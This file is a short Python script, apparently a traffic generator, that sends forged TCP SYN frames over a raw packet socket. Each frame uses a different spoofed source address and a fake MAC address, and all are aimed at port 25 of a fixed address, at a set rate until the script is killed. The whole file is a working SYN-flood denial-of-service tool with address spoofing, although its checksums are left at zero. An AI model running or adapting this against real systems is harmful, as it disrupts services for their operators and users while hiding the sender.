"""Sends forged SYNs out of INTERFACE, RATE a second, each from another address and for nobody's network card; until it is
killed. Prints `flooding` once a thousand are out."""
import socket, struct, sys, time

device, rate = sys.argv[1], int(sys.argv[2])
HEAD = b"\x02\0\0\0\0\1\x02\0\0\0\0\2\x08\0"
MSS = b"\x02\x04\x05\xb4"

def frame(at):
    tcp = struct.pack("!HHIIBBHHH", 1024 + at % 60000, 25, at, 0, 6 << 4, 2, 29200, 0, 0) + MSS
    client = struct.pack("!I", (11 << 24) + at % (1 << 24))
    return HEAD + struct.pack("!BBHHHBBH4s4s", 0x45, 0, 44, 1, 0x4000, 64, 6, 0, client, bytes([198, 51, 100, 25])) + tcp

out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
start, sent = time.monotonic(), 0
while True:
    while sent < rate * (time.monotonic() - start):
        out.send(frame(sent))
        sent += 1
        if sent == 1000:
            print("flooding", flush=True)
    time.sleep(0.002)
